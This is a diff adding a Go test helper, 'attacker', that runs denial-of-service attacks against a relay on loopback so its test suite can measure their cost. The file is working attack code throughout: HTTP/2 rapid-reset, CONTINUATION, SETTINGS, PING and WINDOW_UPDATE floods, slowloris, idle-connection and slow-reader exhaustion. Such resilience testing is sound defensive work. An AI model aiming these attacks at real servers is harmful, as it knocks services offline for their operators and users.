@@ -1,0 +1,235 @@
+// Command attacker runs one of the attacks of the relay's attack suite
+// (relay/attack_test.go) against a listener on loopback, until its
+// standard input closes. The test builds it without the race detector
+// and runs it as a child process, so that the attackers' CPU and
+// descriptors are not the test process's: the suite measures what the
+// attack costs the relay, not what running the attacker costs.
+//
+// Usage: attacker -addr HOST:PORT -attack NAME [-path PATH]
+package main
+
+import (
+	"bytes"
+	"flag"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"sync"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+func main() {
+	addr := flag.String("addr", "", "the `HOST:PORT` attacked")
+	name := flag.String("attack", "", "the attack")
+	path := flag.String("path", "/sdk/snapshot?ns=big", "the `PATH` of the snapshot requests")
+	flag.Parse()
+	stop := make(chan struct{})
+	go func() {
+		_, _ = io.Copy(io.Discard, os.Stdin) // the parent closes it, or dies
+		close(stop)
+	}()
+	a := attacks[*name]
+	if a == nil || *addr == "" {
+		fmt.Fprintf(os.Stderr, "attacker: unknown attack %q or no -addr\n", *name)
+		os.Exit(2)
+	}
+	fmt.Println("attacking") // the parent waits for this line
+	a(*addr, *path, stop)
+}
+
+var attacks = map[string]func(addr, path string, stop <-chan struct{}){
+	"h2-zero-window-snapshots": func(addr, path string, stop <-chan struct{}) {
+		// One connection, a zero receive window, 200 snapshots of a
+		// 1 MiB namespace that are never read.
+		h := dialH2(addr, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+		if h == nil {
+			return
+		}
+		defer h.c.Close()
+		for i := range 200 {
+			if h.headers(uint32(2*i+1), path, true) != nil {
+				break
+			}
+		}
+		<-stop
+	},
+	"http1-slow-snapshot-readers": func(addr, path string, stop <-chan struct{}) {
+		// 32 HTTP/1.1 connections (half the relay's default snapshot
+		// slots) that ask for a 1 MiB snapshot and never read it.
+		var conns []net.Conn
+		defer func() {
+			for _, c := range conns {
+				c.Close()
+			}
+		}()
+		for range 32 {
+			c, err := net.Dial("tcp", addr)
+			if err != nil {
+				return
+			}
+			conns = append(conns, c)
+			_, _ = io.WriteString(c, "GET "+path+" HTTP/1.1\r\nHost: x\r\n\r\n")
+		}
+		<-stop
+	},
+	"rapid-reset": func(addr, path string, stop <-chan struct{}) {
+		floodFor(stop, 2, func() *h2conn { return dialH2(addr) }, func(h *h2conn, i int) error {
+			id := uint32(2*i + 1)
+			if err := h.headers(id, path, true); err != nil {
+				return err
+			}
+			return h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
+		})
+	},
+	"settings-flood": func(addr, _ string, stop <-chan struct{}) {
+		dup := make([]http2.Setting, 1000)
+		for i := range dup {
+			dup[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535}
+		}
+		floodFor(stop, 2, func() *h2conn { return dialH2(addr) }, func(h *h2conn, _ int) error {
+			return h.fr.WriteSettings(dup...)
+		})
+	},
+	"ping-flood": func(addr, _ string, stop <-chan struct{}) {
+		floodFor(stop, 2, func() *h2conn { return dialH2(addr) }, func(h *h2conn, _ int) error {
+			return h.fr.WritePing(false, [8]byte{1})
+		})
+	},
+	"window-update-flood": func(addr, _ string, stop <-chan struct{}) {
+		floodFor(stop, 2, func() *h2conn { return dialH2(addr) }, func(h *h2conn, _ int) error {
+			return h.fr.WriteWindowUpdate(0, 1)
+		})
+	},
+	"continuation-flood": func(addr, _ string, stop <-chan struct{}) {
+		block := bytes.Repeat([]byte{0x40, 0x01, 'a', 0x01, 'b'}, 1000) // literal headers a: b, never ending
+		floodFor(stop, 2, func() *h2conn { return dialH2(addr) }, func(h *h2conn, i int) error {
+			if i == 0 {
+				return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:5]})
+			}
+			return h.fr.WriteContinuation(1, false, block)
+		})
+	},
+	"slowloris-headers": func(addr, _ string, stop <-chan struct{}) {
+		// 500 connections, each sending a header byte a second.
+		var wg sync.WaitGroup
+		for range 500 {
+			wg.Go(func() {
+				c, err := net.Dial("tcp", addr)
+				if err != nil {
+					return
+				}
+				defer c.Close()
+				_, _ = io.WriteString(c, "GET /sdk/snapshot?ns=app HTTP/1.1\r\nHost: x\r\n")
+				tick := time.NewTicker(time.Second)
+				defer tick.Stop()
+				for {
+					select {
+					case <-stop:
+						return
+					case <-tick.C:
+					}
+					if _, err := io.WriteString(c, "X"); err != nil {
+						return
+					}
+				}
+			})
+		}
+		wg.Wait()
+	},
+	"idle-connections": func(addr, _ string, stop <-chan struct{}) {
+		// 2,000 connections that never send a byte.
+		var conns []net.Conn
+		defer func() {
+			for _, c := range conns {
+				c.Close()
+			}
+		}()
+		for range 2000 {
+			c, err := net.Dial("tcp", addr)
+			if err != nil {
+				break
+			}
+			conns = append(conns, c)
+		}
+		<-stop
+	},
+}
+
+// h2conn is an attacker's raw HTTP/2 connection (h2c, prior knowledge).
+type h2conn struct {
+	c  net.Conn
+	fr *http2.Framer
+	hb bytes.Buffer
+	he *hpack.Encoder
+}
+
+func dialH2(addr string, settings ...http2.Setting) *h2conn {
+	c, err := net.Dial("tcp", addr)
+	if err != nil {
+		return nil
+	}
+	h := &h2conn{c: c}
+	h.fr = http2.NewFramer(c, c)
+	h.he = hpack.NewEncoder(&h.hb)
+	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
+		c.Close()
+		return nil
+	}
+	_ = h.fr.WriteSettings(settings...)
+	// Read and drop whatever the server sends.
+	go func() { _, _ = io.Copy(io.Discard, c) }()
+	return h
+}
+
+func (h *h2conn) headers(id uint32, path string, end bool) error {
+	h.hb.Reset()
+	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "x"}, {":path", path}} {
+		_ = h.he.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+	}
+	return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.hb.Bytes(), EndStream: end, EndHeaders: true})
+}
+
+// floodBurst is how many frames a flood sends per connection every 10 ms:
+// 5,000 a second. Unbounded, an attacker on the same cores as the relay
+// would measure only the CPU it takes.
+const floodBurst = 50
+
+// floodFor calls step until stop, on n connections, each reopened when
+// the server closes it.
+func floodFor(stop <-chan struct{}, n int, dial func() *h2conn, step func(h *h2conn, i int) error) {
+	var wg sync.WaitGroup
+	for range n {
+		wg.Go(func() {
+			for {
+				h := dial()
+				if h == nil {
+					return
+				}
+				for i := 0; ; i++ {
+					if i%floodBurst == 0 {
+						select {
+						case <-stop:
+							h.c.Close()
+							return
+						case <-time.After(10 * time.Millisecond):
+						}
+					}
+					if step(h, i) != nil {
+						break
+					}
+				}
+				h.c.Close()
+				select {
+				case <-stop:
+					return
+				case <-time.After(10 * time.Millisecond):
+				}
+			}
+		})
+	}
+	wg.Wait()
+}
